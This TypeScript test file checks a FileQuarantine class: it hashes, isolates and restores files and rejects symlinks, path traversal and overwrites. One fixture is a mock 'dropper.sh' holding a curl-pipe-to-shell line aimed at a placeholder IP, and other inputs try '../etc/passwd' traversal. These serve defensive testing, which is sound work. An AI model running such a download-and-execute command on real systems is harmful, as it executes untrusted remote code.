import { createHash } from 'node:crypto';
import { lstat, mkdtemp, readFile, rm, symlink, writeFile, chmod } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { FileQuarantine } from '../index.ts';

const work = await mkdtemp(join(tmpdir(), 'cordon-quarantine-'));
afterAll(() => rm(work, { recursive: true, force: true }));

describe('FileQuarantine', () => {
  it('hashes, moves away and restores a file with its mode', async () => {
    const quarantine = new FileQuarantine(join(work, 'q'));
    const path = join(work, 'dropper.sh');
    const content = '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n';
    await writeFile(path, content);
    await chmod(path, 0o750);
    const record = await quarantine.quarantine(path);
    expect(record.sha256).toBe(createHash('sha256').update(content).digest('hex'));
    expect(record.mode).toBe(0o750);
    await expect(lstat(path)).rejects.toThrow();
    expect((await lstat(join(work, 'q', `${record.id}.bin`))).mode & 0o777).toBe(0);
    const restored = await quarantine.restore(record.id);
    expect(restored.originalPath).toBe(path);
    expect(await readFile(path, 'utf8')).toBe(content);
    expect((await lstat(path)).mode & 0o7777).toBe(0o750);
    await expect(quarantine.restore(record.id)).rejects.toThrow(/nothing in quarantine/);
  });

  it('refuses symlinks, directories, unsafe paths and overwriting on restore', async () => {
    const quarantine = new FileQuarantine(join(work, 'q2'));
    const target = join(work, 'target');
    await writeFile(target, 'x');
    await symlink(target, join(work, 'link'));
    await expect(quarantine.quarantine(join(work, 'link'))).rejects.toThrow(/not a regular file/);
    await expect(quarantine.quarantine(work)).rejects.toThrow(/not a regular file/);
    await expect(quarantine.quarantine(`${work}/../etc/passwd`)).rejects.toThrow(/safe absolute/);
    await expect(quarantine.quarantine('relative')).rejects.toThrow(/safe absolute/);
    await expect(quarantine.restore('../../etc')).rejects.toThrow(/not a quarantine id/);
    const record = await quarantine.quarantine(target);
    await writeFile(target, 'replacement');
    await expect(quarantine.restore(record.id)).rejects.toThrow(/not overwriting/);
    expect(await readFile(target, 'utf8')).toBe('replacement');
  });
});
